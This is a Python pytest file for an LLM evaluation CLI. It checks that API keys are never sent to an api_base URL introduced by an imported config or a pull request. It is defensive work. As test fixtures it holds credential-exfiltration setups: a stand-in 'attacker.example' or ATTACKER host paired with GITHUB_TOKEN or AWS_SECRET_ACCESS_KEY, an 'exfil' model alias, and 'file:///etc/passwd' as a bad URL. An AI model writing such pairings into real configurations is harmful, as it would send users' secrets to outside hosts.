"""Hostile inputs, round three (#28, finding 1): credentials travel only with trusted endpoints.

An imported config, or a pull request, may write ``api_base: http://ATTACKER/v1`` next to ``api_key_env:
GITHUB_TOKEN``. The importers never pair an imported URL with a key variable, and ``eval run`` / ``eval gate``
send a key to an ``api_base`` only when the base branch's llmops.yaml already had exactly that pairing of
alias, URL and variable. Every test checks the headers a loopback fake server recorded: no request with the
key reaches a URL the base did not trust (and the trusted server does get the key, so the check can fail).
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import GitRepo, run_cli, write
from tests.support import gateproj as gp
from tests.support.fakellm import FakeLLM

CANARY = "ghp_CANARYTOKEN0123456789abcdefABCDEF0123"
LOCAL = {"GITHUB_BASE_REF": ""}  # not a pull-request job


def _carries(server: FakeLLM, secret: str) -> int:
    """Requests whose headers carry ``secret`` (authorization, api-key…)."""
    return sum(any(secret in str(v) for v in r.headers.values()) for r in server.requests)


# -- importers ------------------------------------------------------------------------------------------------

PROMPTFOO = """
prompts: ["Answer: {{question}}"]
providers:
  - id: openai:chat:fake-model
    config: {apiBaseUrl: "@URL@", apiKeyEnvar: GITHUB_TOKEN, temperature: 0}
tests:
  - vars: {question: hi}
    assert: [{type: icontains, value: answer}]
"""


def test_promptfoo_import_never_pairs_the_url_with_a_key(tmp_path: Path, fake_llm: FakeLLM) -> None:
    src, out = tmp_path / "src", tmp_path / "proj"
    write(src, "promptfooconfig.yaml", PROMPTFOO.replace("@URL@", fake_llm.url))
    r = run_cli("import", "promptfoo", "promptfooconfig.yaml", "--out", str(out), cwd=src, env=LOCAL)
    assert r.exit_code == 0, r.output
    config = (out / "llmops.yaml").read_text()
    assert fake_llm.url in config and "GITHUB_TOKEN" not in config  # the URL stays, the key variable does not
    assert "GITHUB_TOKEN" in r.output and "key" in r.output  # reported as a gap
    lint = run_cli("prompt", "lint", cwd=out, env=LOCAL)
    assert "import-gap" in lint.output and "GITHUB_TOKEN" in lint.output
    run = run_cli("eval", "run", "-q", cwd=out, env={**LOCAL, "GITHUB_TOKEN": CANARY})
    assert run.exit_code in (0, 1), run.output
    assert fake_llm.chat_requests and _carries(fake_llm, CANARY) == 0
    assert CANARY not in run.output


def test_promptfoo_key_without_url_is_kept(tmp_path: Path) -> None:
    """A key variable for the provider's own endpoint is not an exfiltration: it stays."""
    src, out = tmp_path / "src", tmp_path / "proj"
    write(
        src,
        "promptfooconfig.yaml",
        'prompts: ["Hi {{q}}"]\nproviders: [{id: "openai:gpt-4o-2024-08-06", config: {apiKeyEnvar: MY_KEY}}]\n',
    )
    r = run_cli("import", "promptfoo", "promptfooconfig.yaml", "--out", str(out), cwd=src, env=LOCAL)
    assert r.exit_code == 0, r.output
    assert "api_key_env: MY_KEY" in (out / "llmops.yaml").read_text()


@pytest.mark.parametrize("key", ["apiBaseUrl", "baseUrl", "apiHost", "base_url"])
def test_every_base_url_spelling_is_unpaired(tmp_path: Path, key: str) -> None:
    src, out = tmp_path / "src", tmp_path / "proj"
    write(
        src,
        "promptfooconfig.yaml",
        f'prompts: ["Hi {{{{q}}}}"]\nproviders: [{{id: "openai:chat:m", config: {{apiKeyEnv: AWS_SECRET_ACCESS_KEY, '
        f'{key}: "attacker.example/v1"}}}}]\n',
    )
    r = run_cli("import", "promptfoo", "promptfooconfig.yaml", "--out", str(out), cwd=src, env=LOCAL)
    assert r.exit_code == 0, r.output
    config = (out / "llmops.yaml").read_text()
    assert "attacker.example" in config and "AWS_SECRET_ACCESS_KEY" not in config


# -- eval run and eval gate: the base's pairings --------------------------------------------------------------


@pytest.fixture
def servers(fake_llm_factory: Callable[..., FakeLLM]) -> tuple[FakeLLM, FakeLLM]:
    """(the endpoint main trusts, the attacker's)."""
    return fake_llm_factory(responder=gp.responder), fake_llm_factory(responder=gp.responder)


def _repoint(repo: GitRepo, url: str) -> None:
    """The PR moves alias `chat` to another URL, keeping its key variable."""
    text = (repo.root / "llmops.yaml").read_text()
    repo.write("llmops.yaml", text.replace(text.split("api_base: '", 1)[1].split("'", 1)[0], url))


def test_gate_sends_no_key_to_a_url_the_pr_paired_with_it(
    tmp_git_repo: GitRepo, servers: tuple[FakeLLM, FakeLLM]
) -> None:
    trusted, attacker = servers
    repo = tmp_git_repo
    gp.make_repo(repo, trusted.url)
    repo.git("checkout", "-q", "-b", "feature")
    _repoint(repo, attacker.url)
    repo.write("prompts/support/answer.prompt.yaml", gp.answer_prompt("Answer briefly, please."))
    repo.commit("exfiltrate")
    r = run_cli("eval", "gate", "--base", "main", cwd=repo.root, env={**LOCAL, gp.KEY_ENV: gp.KEY_VALUE})
    assert r.exit_code in (0, 1), r.output
    assert attacker.chat_requests and _carries(attacker, gp.KEY_VALUE) == 0
    assert _carries(trusted, gp.KEY_VALUE) > 0  # the base arm, on main's own pairing, still gets its key
    assert "NOT sent" in r.stderr and "models.chat" in r.stderr and gp.KEY_VALUE not in r.output


def test_gate_new_alias_with_another_variable_gets_no_key(
    tmp_git_repo: GitRepo, servers: tuple[FakeLLM, FakeLLM]
) -> None:
    trusted, attacker = servers
    repo = tmp_git_repo
    gp.make_repo(repo, trusted.url)
    repo.git("checkout", "-q", "-b", "feature")
    text = (repo.root / "llmops.yaml").read_text()
    repo.write(
        "llmops.yaml",
        text.replace("models:\n", f"models:\n  exfil: {{model: openai/m, api_base: '{attacker.url}', "
                     "api_key_env: GITHUB_TOKEN}\n"),
    )  # fmt: skip
    repo.write("prompts/support/answer.prompt.yaml", gp.answer_prompt("Answer briefly.").replace("chat", "exfil"))
    repo.commit("new alias")
    env = {**LOCAL, gp.KEY_ENV: gp.KEY_VALUE, "GITHUB_TOKEN": CANARY}
    r = run_cli("eval", "gate", "--base", "main", cwd=repo.root, env=env)
    assert r.exit_code in (0, 1), r.output
    assert attacker.chat_requests and _carries(attacker, CANARY) == 0 and _carries(attacker, gp.KEY_VALUE) == 0
    assert "models.exfil" in r.stderr and CANARY not in r.output


def test_gate_keeps_the_key_for_an_unchanged_pairing(tmp_git_repo: GitRepo, servers: tuple[FakeLLM, FakeLLM]) -> None:
    trusted, _ = servers
    repo = tmp_git_repo
    gp.make_repo(repo, trusted.url)
    repo.git("checkout", "-q", "-b", "feature")
    repo.write("prompts/support/answer.prompt.yaml", gp.answer_prompt("Answer briefly, please."))
    repo.commit("wording")
    r = run_cli("eval", "gate", "--base", "main", cwd=repo.root, env={**LOCAL, gp.KEY_ENV: gp.KEY_VALUE})
    assert r.exit_code in (0, 1), r.output
    sent = len(trusted.chat_requests)
    assert sent and _carries(trusted, gp.KEY_VALUE) == sent and "NOT sent" not in r.stderr


def _feature_with_new_url(repo: GitRepo, trusted: FakeLLM, attacker: FakeLLM) -> None:
    gp.make_repo(repo, trusted.url)
    repo.git("checkout", "-q", "-b", "feature")
    _repoint(repo, attacker.url)
    repo.commit("repoint")


@pytest.mark.parametrize("how", [["--base", "main"], ["--changed-since", "main"]])
def test_eval_run_with_a_base_withholds_the_key(
    tmp_git_repo: GitRepo, servers: tuple[FakeLLM, FakeLLM], how: list[str]
) -> None:
    trusted, attacker = servers
    _feature_with_new_url(tmp_git_repo, trusted, attacker)
    if how[0] == "--changed-since":  # something must have changed for --changed-since to run it
        tmp_git_repo.write("evals/support/answer.yaml", gp.golden(3))
        tmp_git_repo.commit("golden")
    r = run_cli("eval", "run", "-q", *how, cwd=tmp_git_repo.root, env={**LOCAL, gp.KEY_ENV: gp.KEY_VALUE})
    assert r.exit_code in (0, 1), r.output
    assert attacker.chat_requests and _carries(attacker, gp.KEY_VALUE) == 0 and "NOT sent" in r.stderr


def test_eval_run_in_a_pull_request_job_trusts_no_pairing_without_a_base(
    tmp_git_repo: GitRepo, servers: tuple[FakeLLM, FakeLLM]
) -> None:
    trusted, attacker = servers
    _feature_with_new_url(tmp_git_repo, trusted, attacker)
    env = {gp.KEY_ENV: gp.KEY_VALUE, "GITHUB_BASE_REF": "main"}
    r = run_cli("eval", "run", "-q", "support/other", cwd=tmp_git_repo.root, env=env)
    assert r.exit_code in (0, 1), r.output
    assert attacker.chat_requests and _carries(attacker, gp.KEY_VALUE) == 0 and "pull-request job" in r.stderr


def test_eval_run_locally_trusts_the_working_tree(tmp_git_repo: GitRepo, servers: tuple[FakeLLM, FakeLLM]) -> None:
    """A developer's own checkout: the key rule as before (the user's own llmops.yaml)."""
    trusted, _ = servers
    gp.make_repo(tmp_git_repo, trusted.url)
    r = run_cli("eval", "run", "-q", "support/other", cwd=tmp_git_repo.root, env={**LOCAL, gp.KEY_ENV: gp.KEY_VALUE})
    assert r.exit_code in (0, 1), r.output
    sent = len(trusted.chat_requests)
    assert sent and _carries(trusted, gp.KEY_VALUE) == sent


# -- URLs that are not URLs: exit 2 before any call ---------------------------------------------------------------


@pytest.mark.parametrize("url", ["not a url", "ftp://x/v1", "http://", "file:///etc/passwd", "http://h:99999/v1"])
def test_bad_api_base_option_exits_2(tmp_git_repo: GitRepo, fake_llm: FakeLLM, url: str) -> None:
    gp.make_repo(tmp_git_repo, fake_llm.url)
    r = run_cli("eval", "run", "-q", "--api-base", url, cwd=tmp_git_repo.root, env={**LOCAL, gp.KEY_ENV: "k"})
    assert r.exit_code == 2, r.output
    assert "--api-base" in r.stderr and "Traceback" not in r.output and not fake_llm.requests


def test_bad_api_base_in_config_exits_2(tmp_git_repo: GitRepo, fake_llm: FakeLLM) -> None:
    gp.make_repo(tmp_git_repo, fake_llm.url)
    text = (tmp_git_repo.root / "llmops.yaml").read_text()
    tmp_git_repo.write("llmops.yaml", text.replace(fake_llm.url, "not a url"))
    r = run_cli("eval", "run", "-q", cwd=tmp_git_repo.root, env={**LOCAL, gp.KEY_ENV: "k"})
    assert r.exit_code == 2 and "llmops.yaml:" in r.stderr and "api_base" in r.stderr, r.output
    assert not fake_llm.requests
